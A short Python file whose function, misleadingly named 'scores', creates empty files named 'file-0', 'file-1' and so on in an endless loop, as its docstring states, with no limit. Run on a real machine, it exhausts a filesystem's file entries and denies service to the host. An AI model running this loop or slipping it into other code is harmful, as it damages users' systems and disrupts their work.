"""Makes files without content as fast as it can: no limit on bytes stops it."""

import itertools


def scores(X):
    for number in itertools.count():
        open(f"file-{number}", "w").close()
